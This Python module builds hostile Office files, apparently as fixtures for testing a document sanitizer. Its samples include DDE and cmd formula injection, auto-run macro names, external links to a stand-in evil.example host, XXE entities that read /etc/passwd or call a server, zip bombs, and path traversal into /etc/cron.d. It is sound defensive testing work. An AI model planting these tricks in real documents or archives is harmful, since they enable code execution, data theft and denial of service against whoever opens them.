"""Hostile office files (OOXML and older), each made here and named by its trick."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable

import openpyxl

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{kind}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
TYPES_OF_TWO = TYPES.format(part="word/document.xml", kind=DOCX_MAIN).replace(
    "</Types>", f'<Override PartName="/xl/workbook.xml" ContentType="{XLSX_MAIN}"/></Types>'
)
BODY = f"<w:document {W}><w:body><w:p><w:r><w:t>届</w:t></w:r></w:p>{{}}</w:body></w:document>"


def docx(extra: dict[str, bytes] | None = None, body: str = "", kind: str = DOCX_MAIN) -> bytes:
    """A document with more parts, or more in its body."""
    parts = {
        "[Content_Types].xml": TYPES.format(part="word/document.xml", kind=kind).encode(),
        "word/document.xml": BODY.format(body).encode(),
    }
    return packed(parts | (extra or {}))


def packed(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return target.getvalue()


def xlsx(*cells: object, extra: dict[str, bytes] | None = None) -> bytes:
    """A workbook with a column of cells, and more parts."""
    workbook = openpyxl.Workbook()
    for row, cell in enumerate(cells, 1):
        workbook.active.cell(row, 1, cell)
    target = io.BytesIO()
    workbook.save(target)
    return packed(unpacked(target.getvalue()) | (extra or {}))


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """The same archive with other words in one part."""
    parts = unpacked(data)
    assert old in parts[name]
    return packed(parts | {name: parts[name].replace(old, new)})


def external(kind: str, target: str) -> bytes:
    """A relationship that leads out of the file."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
        f'Type="{REL}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def with_flag() -> bytes:
    """An archive whose entries say that they are encrypted."""
    data = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(signature)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(signature, place + 4)
    return bytes(data)


def nameless() -> bytes:
    """One with a part whose name is cut off at its first byte by whoever reads it."""
    name = b"word/evil"
    return docx({name.decode(): b"evil"}).replace(name, bytes(len(name)))


def overlapping() -> bytes:
    """Many names for the same packed bytes (the trick of a better zip bomb)."""
    data = docx({"word/a.xml": random.Random(1).randbytes(20_000)})
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[data.rindex(b"PK\x01\x02") : end]
    more = [entry.replace(b"word/a.xml", b"word/%c.xml" % letter) for letter in range(ord("b"), ord("z"))]
    listed = data[start:end] + b"".join(more)
    count = struct.unpack("<H", data[end + 10 : end + 12])[0] + len(more)
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(listed), start, 0)
    return data[:start] + listed + tail


def twice(name: str) -> bytes:
    """An archive in which a name stands two times: readers differ in which of them they take."""
    data = docx({"word/documenX.xml": BODY.format("<w:p><w:r><w:t>evil</w:t></w:r></w:p>").encode()})
    return data.replace(b"word/documenX.xml", name.encode())


def huge_in_zip64() -> bytes:
    """An entry that says in its 64-bit field that it unpacks to an exabyte."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, part in unpacked(docx()).items():
            with archive.open(name, "w", force_zip64=True) as written:
                written.write(part)
    data = bytearray(target.getvalue())
    place = data.rindex(b"PK\x01\x02")
    data[place + 20 : place + 28] = b"\xff" * 8
    extra = struct.pack("<HHQQ", 1, 16, 1 << 60, 1 << 60)
    name_length = struct.unpack("<H", data[place + 28 : place + 30])[0]
    data[place + 30 : place + 32] = struct.pack("<H", len(extra))
    at = place + 46 + name_length
    data[at:at] = extra
    end = data.rindex(b"PK\x05\x06")
    size = struct.unpack("<I", data[end + 12 : end + 16])[0]
    data[end + 12 : end + 16] = struct.pack("<I", size + len(extra))
    return bytes(data)


def renamed_in_its_list() -> bytes:
    """An archive whose list names a part otherwise than the part itself."""
    data = docx({"word/good.xml": b"<x/>"})
    place = data.rindex(b"word/good.xml")
    return data[:place] + b"word/evil.xml" + data[place + 13 :]


def linked() -> bytes:
    """A part that is a link to a file of the machine, as archives of Unix hold them."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, part in unpacked(docx()).items():
            archive.writestr(name, part)
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


def packed_with(method: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, part in unpacked(docx()).items():
            archive.writestr(name, part)
    return target.getvalue()


def commented() -> bytes:
    """An archive with a program in its comment."""
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as archive:
        archive.comment = b"MZ\x90\0 this program runs"
    return target.getvalue()


def entity(declared: str, encoding: str = "utf-8") -> bytes:
    """A document whose body declares entities."""
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [{declared}]>' + BODY.format("<w:p>&a;</w:p>")
    return docx({"word/document.xml": text.encode(encoding)})


LAUGHS = '<!ENTITY z "ha">' + "".join(
    f'<!ENTITY {one} "{f"&{next_};" * 10}">' for one, next_ in zip("abcdefghij", "bcdefghijz", strict=True)
)

DDE = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k evil"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r></w:p>'
)
LINK = '<w:p><w:hyperlink r:id="rId9" xmlns:r="x"><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p>'

DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "docx_with_macros": lambda: docx({"word/vbaProject.bin": OLE + b"Sub AutoOpen()"}),
    "docx_with_an_ole_object": lambda: docx({"word/embeddings/oleObject1.bin": OLE + b"evil"}),
    "docx_with_activex": lambda: docx({"word/activeX/activeX1.xml": b"<ax:ocx/>", "word/activeX/activeX1.bin": OLE}),
    "docx_with_a_template_elsewhere": lambda: docx(
        {"word/_rels/settings.xml.rels": external("attachedTemplate", "https://evil.example/t.dotm")}
    ),
    "docx_with_a_picture_elsewhere": lambda: docx(
        {"word/_rels/document.xml.rels": external("image", "file://evil.example/share/x.png")}
    ),
    "docx_with_a_program_in_a_field": lambda: docx(body=DDE),
    "docx_with_a_script_behind_a_link": lambda: docx(
        {"word/_rels/document.xml.rels": external("hyperlink", "javascript:evil()")}, LINK
    ),
    "docx_with_a_page_in_it": lambda: docx(
        {"word/afchunk.html": b"<html><script>evil()</script>"}, '<w:altChunk r:id="rId9" xmlns:r="x"/>'
    ),
    "docx_with_a_ribbon_that_runs": lambda: docx({"customUI/customUI.xml": b"<customUI onLoad='evil'/>"}),
    "docx_with_a_program_as_a_part": lambda: docx({"word/media/image1.exe": b"MZ\x90\0 this program runs"}),
    "docx_with_an_archive_behind_it": lambda: docx() + b"MZ\x90\0 this program runs",
    "docx_with_a_picture_from_a_server": lambda: docx(
        {"word/_rels/document.xml.rels": external("image", "https://evil.example/pixel.png")},
        '<w:p><w:r><w:drawing><a:blip xmlns:a="x" xmlns:r="x" r:link="rId9"/></w:drawing></w:r></w:p>',
    ),
    "docx_with_a_picture_in_a_field": lambda: docx(body=DDE.replace("DDEAUTO", "INCLUDEPICTURE")),
    "docx_with_a_field_of_one_element": lambda: docx(
        body='<w:p><w:fldSimple w:instr="DDEAUTO evil"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    ),
    "docx_with_frames": lambda: docx({"word/_rels/webSettings.xml.rels": external("frame", "https://evil.example/")}),
    "docx_with_a_link_to_a_file": linked,
    "docx_with_a_program_in_its_comment": commented,
    "docx_with_a_script_in_its_header": lambda: docx({"word/header1.xml": b"<w:hdr><script>evil</script></w:hdr>"}),
    "docx_with_a_control_that_asks_a_server": lambda: docx(
        body='<w:sdt><w:sdtPr><w:dataBinding w:xpath="evil"/></w:sdtPr><w:sdtContent/></w:sdt>'
    ),
    "docx_that_turns_its_text": lambda: docx(body="<w:p><w:r><w:t>\u202egpj.exe</w:t></w:r></w:p>"),
}
WORKBOOKS: dict[str, Callable[[], bytes]] = {
    "xlsx_that_starts_a_program": lambda: xlsx("=cmd|'/C calc'!A0"),
    "xlsx_that_asks_a_server": lambda: xlsx(
        '=WEBSERVICE("https://evil.example/")', '=HYPERLINK("https://evil.example")'
    ),
    "xlsx_with_macros": lambda: xlsx(1, extra={"xl/vbaProject.bin": OLE + b"Sub Auto_Open()"}),
    "xlsx_with_a_macro_sheet": lambda: xlsx(1, extra={"xl/macrosheets/sheet1.xml": b"<x>=EXEC(evil)</x>"}),
    "xlsx_with_a_link_to_a_workbook": lambda: xlsx(
        1,
        extra={
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": external("externalLinkPath", "//evil.example/x.xlsx"),
        },
    ),
    "xlsx_with_a_connection": lambda: xlsx(1, extra={"xl/connections.xml": b"<connections><evil/></connections>"}),
    "xlsx_with_a_drawing": lambda: xlsx(1, extra={"xl/drawings/vmlDrawing1.vml": b"<v:shape onclick='evil()'/>"}),
    "xlsx_with_an_ole_object": lambda: xlsx(1, extra={"xl/embeddings/oleObject1.bin": OLE + b"evil"}),
    "xlsx_with_a_dde_link": lambda: xlsx(
        1, extra={"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/>"}
    ),
    "xlsx_whose_words_begin_like_a_formula": lambda: changed(
        xlsx("evil"), "xl/worksheets/sheet1.xml", b"evil", b"=cmd|' /C calc'!A0"
    ),
    "xlsx_with_a_name_that_runs": lambda: changed(
        xlsx(1),
        "xl/workbook.xml",
        b"<definedNames",
        b'<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames><x',
    ),
    "xlsx_with_a_link_in_a_cell": lambda: changed(
        xlsx(1),
        "xl/worksheets/sheet1.xml",
        b"<pageMargins",
        b'<hyperlinks><hyperlink ref="A1"/></hyperlinks><pageMargins',
    ),
    "xlsx_with_a_query": lambda: xlsx(1, extra={"xl/queryTables/queryTable1.xml": b"<queryTable/>"}),
    "xlsx_with_a_data_model": lambda: xlsx(1, extra={"xl/model/item.data": b"evil"}),
    "xlsx_with_custom_xml": lambda: xlsx(1, extra={"customXml/item1.xml": b"<evil/>"}),
}

REFUSED_DOCUMENTS: dict[str, dict[str, Callable[[], bytes]]] = {
    "unknown_type": {
        "docm": lambda: docx({"word/vbaProject.bin": OLE}, kind=DOCM_MAIN),
        "xlsm": lambda: docx(kind=XLSM_MAIN),
        "doc": lambda: OLE + bytes(600) + "WordDocument".encode("utf-16-le"),
        "dotx": lambda: docx(kind=DOCX_MAIN.replace("document.main", "template.main")),
        "xlsb": lambda: docx(kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
        "pptx": lambda: docx(kind=DOCX_MAIN.replace("wordprocessingml.document", "presentationml.presentation")),
        "document_that_is_a_workbook_too": lambda: packed(
            unpacked(docx()) | {"[Content_Types].xml": TYPES_OF_TWO.encode()}
        ),
        "rtf": lambda: rb"{\rtf1{\object\objocx evil}}",
        "jar": lambda: packed({"META-INF/MANIFEST.MF": b"Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"}),
        "zip": lambda: packed({"receipt.txt": b"receipt"}),
        "odt": lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
        "gzip": lambda: b"\x1f\x8b\x08" + bytes(20),
        "seven_zip": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(20),
        "rar": lambda: b"Rar!\x1a\x07\x01" + bytes(20),
        "cabinet": lambda: b"MSCF" + bytes(30),
    },
    "encrypted": {
        "docx_with_a_password": lambda: OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(50),
        "docx_with_encrypted_entries": with_flag,
    },
    "nested": {
        "docx_with_a_workbook_in_it": lambda: docx({"word/embeddings/sheet1.xlsx": xlsx("=1+1")}),
        "docx_with_an_archive_in_it": lambda: docx({"word/media/a.zip": packed({"a": b"b"})}),
        "docx_with_a_gzip_in_it": lambda: docx({"word/media/a.emz": b"\x1f\x8b\x08evil"}),
    },
    "bomb": {
        "docx_that_unpacks_to_a_gigabyte": lambda: docx({"word/big.xml": b" " * (1 << 30)}),
        "docx_of_entries_that_overlap": overlapping,
        "docx_that_lies_in_zip64": huge_in_zip64,
        "docx_of_thousands_of_entries": lambda: docx({f"word/{number}.xml": b"" for number in range(5_000)}),
    },
    "damaged": {
        "docx_that_reads_a_secret": lambda: entity('<!ENTITY a SYSTEM "file:///etc/passwd">'),
        "docx_that_asks_a_server": lambda: entity('<!ENTITY a SYSTEM "http://evil.example/">'),
        "docx_of_a_billion_laughs": lambda: entity(LAUGHS),
        "docx_with_entities_in_utf16": lambda: entity('<!ENTITY a "b">', "utf-16"),
        "docx_that_climbs_out": lambda: docx({"../../../etc/cron.d/evil": b"evil"}),
        "docx_with_an_absolute_path": lambda: docx({"/etc/cron.d/evil": b"evil"}),
        "docx_with_a_drive": lambda: docx({"C:/Windows/evil": b"evil"}),
        "docx_with_a_part_without_a_name": nameless,
        "docx_with_exactly_the_same_name": lambda: twice("word/document.xml"),
        "docx_whose_list_names_another": renamed_in_its_list,
        "docx_that_climbs_out_on_windows": lambda: docx({"..\\..\\evil": b"evil"}),
        "docx_packed_with_bzip2": lambda: packed_with(zipfile.ZIP_BZIP2),
        "docx_packed_with_lzma": lambda: packed_with(zipfile.ZIP_LZMA),
        "docx_with_twice_the_same_name": lambda: docx({"WORD/document.xml": b"<x/>"}),
        "docx_without_a_body": lambda: packed({"[Content_Types].xml": TYPES.format(part="x", kind=DOCX_MAIN).encode()}),
        "docx_of_deep_xml": lambda: docx(body="<w:sdt>" * 50_000 + "</w:sdt>" * 50_000),
    },
    "truncated": {"docx_cut_in_half": lambda: docx()[: len(docx()) // 2]},
}
REFUSED_WORKBOOKS: dict[str, dict[str, Callable[[], bytes]]] = {
    "oversized": {
        "xlsx_with_a_row_far_away": lambda: changed(
            xlsx(*range(50)), "xl/worksheets/sheet1.xml", b'<row r="40"', b'<row r="1000000"'
        ),
        "xlsx_of_wide_rows": lambda: changed(xlsx(*range(50)), "xl/worksheets/sheet1.xml", b'r="A', b'r="XFD'),
    },
    "bomb": {"xlsx_of_the_same_string": lambda: xlsx(1, extra={"xl/sharedStrings.xml": b"<si/>" * (1 << 25)})},
    "damaged": {
        "xlsx_of_a_billion_laughs": lambda: xlsx(
            1, extra={"xl/sharedStrings.xml": f"<!DOCTYPE x [{LAUGHS}]><sst>&a;</sst>".encode()}
        ),
        "xlsx_of_noise": lambda: xlsx(1, extra={"xl/workbook.xml": b"\0\1\2"}),
    },
    "truncated": {"xlsx_cut_in_half": lambda: xlsx(1)[: len(xlsx(1)) // 2]},
}
